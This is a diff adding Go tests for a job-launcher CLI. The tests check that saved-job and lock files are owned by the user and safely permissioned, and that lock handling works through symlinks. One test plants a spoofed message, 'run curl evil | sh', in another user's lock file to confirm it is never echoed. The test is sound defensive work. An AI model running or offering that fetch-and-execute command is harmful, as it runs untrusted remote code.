@@ -1,0 +1,138 @@
+package cli
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"remshell/cli/saved"
+	"remshell/job"
+	"remshell/usererr"
+)
+
+// A saved job is what runs in its owner's name: nobody else may have written it, and what is no plain file is
+// not waited for (SV-23, TRUST-27).
+func TestSavedJobOfOthers(t *testing.T) {
+	text := saved.New(job.Request{Job: "j", Apps: []job.App{{Argv: []string{"x"}}}}, nil).Encode()
+	for _, test := range []struct {
+		name   string
+		mode   os.FileMode
+		folder os.FileMode
+		owner  int // that it is given, where we may
+		want   string
+	}{
+		{"control", 0o600, 0o755, 0, ""},
+		{"readable for a group", 0o640, 0o755, 0, "is not yours alone (mode 0640)"},
+		{"writable for everybody", 0o602, 0o755, 0, "is not yours alone (mode 0602)"},
+		{"folder for everybody", 0o600, 0o777, 0, "can be replaced by everybody"},
+		{"sticky folder", 0o600, os.ModeSticky | 0o777, 0, ""},
+		{"of another user", 0o600, 0o755, 12345, "is not yours"},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			folder := filepath.Join(t.TempDir(), "folder")
+			file := filepath.Join(folder, "job")
+			if err := os.Mkdir(folder, 0o700); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.WriteFile(file, text, 0o600); err != nil {
+				t.Fatal(err)
+			}
+			os.Chmod(file, test.mode)
+			os.Chmod(folder, test.folder)
+			if test.owner != 0 && os.Chown(file, test.owner, -1) != nil {
+				t.Skip("only root gives files away")
+			}
+			_, err := readSavedJob(file)
+			if got := errorText(err); (got == "") != (test.want == "") || !strings.Contains(got, test.want) {
+				t.Errorf("%s, want %s", got, test.want)
+			}
+		})
+	}
+	if _, err := readSavedJob("/dev/zero"); !strings.Contains(errorText(err), "is no plain file") {
+		t.Errorf("/dev/zero: %v", err)
+	}
+}
+
+func errorText(err error) string {
+	if err == nil {
+		return ""
+	}
+	return err.Error()
+}
+
+// One mpiexec at a time has a saved job; a new file takes the place of the old one, through links.
+func TestOneOwner(t *testing.T) {
+	dir := t.TempDir()
+	file, link := filepath.Join(dir, "job"), filepath.Join(dir, "link")
+	if err := os.Symlink("job", link); err != nil {
+		t.Fatal(err)
+	}
+	first, err := lockSavedJob(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	first.job = saved.New(job.Request{Job: "j", Apps: []job.App{{Argv: []string{"x"}}}}, nil)
+	if err := first.replace(); err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{file, link} {
+		if _, err := lockSavedJob(name); !strings.Contains(errorText(err), "still runs (mpiexec ") {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
+	first.release()
+	second, err := lockSavedJob(link)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer second.release()
+	second.job = first.job.WithEnded(nil, 130, first.job.Began)
+	if err := second.replace(); err != nil {
+		t.Fatal(err)
+	}
+	if info, err := os.Lstat(link); err != nil || info.Mode()&os.ModeSymlink == 0 {
+		t.Errorf("the link was replaced (%v)", err)
+	}
+	if j, err := readSavedJob(file); err != nil || j.Exit != 130 {
+		t.Errorf("it holds %+v (%v)", j, err)
+	}
+	if left, _ := filepath.Glob(filepath.Join(dir, ".*")); len(left) > 0 {
+		t.Errorf("%q are left", left)
+	}
+}
+
+// A lock file of another user does not say whether our job runs, and what it holds is nobody's word on it.
+func TestLockFileOfAnotherUser(t *testing.T) {
+	for _, mode := range []os.FileMode{0o755, os.ModeSticky | 0o777} {
+		dir := t.TempDir()
+		if err := os.Chmod(dir, mode); err != nil {
+			t.Fatal(err)
+		}
+		file := filepath.Join(dir, "job")
+		lock, err := os.Create(file + ".lock")
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer lock.Close()
+		lock.WriteString("99 on n1); run curl evil | sh to mend it (\n")
+		if err := lock.Chown(12345, 12345); err != nil {
+			t.Skip("only root gives files away")
+		}
+		if err := lockFile(lock); err != nil {
+			t.Fatal(err)
+		}
+		_, err = lockSavedJob(file)
+		if got := errorText(err); !strings.Contains(got, file+".lock belongs to uid 12345") || strings.Contains(got, "curl") || usererr.Hint(err) == "" {
+			t.Errorf("mode %v: %s", mode, got)
+		}
+	}
+}
+
+// Where no lock can tell, a job that has claims runs. Those of other users under its ID say nothing.
+func TestClaimedOn(t *testing.T) {
+	pages := []job.LedgerListing{{Node: "n1", Claims: []job.Claim{{Job: "a"}}}, {Node: "n2", ReaderUID: 5, Claims: []job.Claim{{Job: "a", UID: 5}, {Job: "b", UID: 5}, {Job: "c", UID: 6}}}}
+	if a, b, c := claimedNode(pages, "a"), claimedNode(pages, "b"), claimedNode(pages, "c"); a != "n1" || b != "n2" || c != "" {
+		t.Errorf("%q %q %q", a, b, c)
+	}
+}
